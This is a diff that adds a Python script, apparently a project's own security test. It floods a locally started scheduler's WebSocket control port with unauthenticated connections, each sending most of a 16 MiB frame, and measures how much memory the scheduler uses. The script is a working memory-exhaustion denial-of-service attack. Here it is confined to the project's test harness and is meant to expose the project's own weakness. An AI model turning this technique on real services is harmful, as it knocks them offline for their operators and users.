@@ -1,0 +1,95 @@
+"""Strangers fill the scheduler's memory over its control port, without any certificate.
+
+    python -m ops.attack.control_port_strangers [--strangers 500] [--frame-bytes 16777215]
+
+Starts a scheduler. Each stranger opens a control connection and sends most of a frame, of 16 MiB by
+default, instead of a registration. Prints by how much the scheduler's memory grows at most,
+and how many strangers it let send; stops at 1 GiB.
+"""
+
+import argparse
+import asyncio
+import struct
+import sys
+from contextlib import suppress
+from pathlib import Path
+
+from tests.system.harness import Fleet, a_fleet, until
+
+FRAME_BYTES = 16 * 1024 * 1024 - 1
+CHUNK = bytes(4 * 1024)
+STRANGER_TIMEOUT_S = 10.0
+GROWTH_MAX_KIB = 1024 * 1024
+STARTS_PER_S = 100.0
+
+
+def memory_kib(pid: int, field: str) -> int:
+    """Return a field of /proc/PID/status: VmRSS, or VmHWM for the most so far."""
+    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
+        if line.startswith(f"{field}:"):
+            return int(line.split()[1])
+    raise LookupError(field)
+
+
+async def stranger(port: int, frame_bytes: int) -> int:
+    """Send an unfinished frame, keep the connection open, and return the bytes sent."""
+    reader, writer = await asyncio.open_connection("127.0.0.1", port)
+    sent = 0
+    with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
+        async with asyncio.timeout(STRANGER_TIMEOUT_S):
+            writer.write(
+                b"GET /v1/agent HTTP/1.1\r\nHost: scheduler\r\nUpgrade: websocket\r\n"
+                b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n"
+                b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n"
+            )
+            await reader.readuntil(b"\r\n\r\n")
+            # A masked binary frame with a length of 64 bits and a mask of zeros.
+            writer.write(b"\x82\xff" + struct.pack("!Q", frame_bytes) + bytes(4))
+            while sent < frame_bytes - len(CHUNK):
+                writer.write(CHUNK)
+                await writer.drain()
+                sent += len(CHUNK)
+            await reader.read()
+    writer.close()
+    return sent
+
+
+async def attack(fleet: Fleet, strangers: int, frame_bytes: int) -> str:
+    """Return the line to print."""
+    await fleet.start_postgres()
+    await fleet.start_scheduler("a")
+    await until("scheduler a is active", fleet.acts)
+    pid = fleet.processes.pid("scheduler-a")
+    before_kib = memory_kib(pid, "VmRSS")
+    tasks = []
+    for _ in range(strangers):
+        if memory_kib(pid, "VmHWM") - before_kib > GROWTH_MAX_KIB:
+            break
+        tasks.append(asyncio.create_task(stranger(fleet.ports["control-a"], frame_bytes)))
+        await asyncio.sleep(1 / STARTS_PER_S)
+    sent = await asyncio.gather(*tasks, return_exceptions=True)
+    whole = sum(isinstance(count, int) and count > frame_bytes // 2 for count in sent)
+    growth_mib = (memory_kib(pid, "VmHWM") - before_kib) / 1024
+    return (
+        f"{len(tasks)} strangers: scheduler +{growth_mib:.0f} MiB, "
+        f"{whole} could send most of {frame_bytes} bytes"
+    )
+
+
+async def run(strangers: int, frame_bytes: int) -> str:
+    """Run the attack on a scheduler of its own."""
+    async with a_fleet(comes_up=False) as fleet:
+        return await attack(fleet, strangers, frame_bytes)
+
+
+def main() -> None:
+    """Run the attack and print its figure."""
+    parser = argparse.ArgumentParser()
+    parser.add_argument("--strangers", type=int, default=500)
+    parser.add_argument("--frame-bytes", type=int, default=FRAME_BYTES)
+    arguments = parser.parse_args()
+    sys.stdout.write(asyncio.run(run(arguments.strangers, arguments.frame_bytes)) + "\n")
+
+
+if __name__ == "__main__":
+    main()
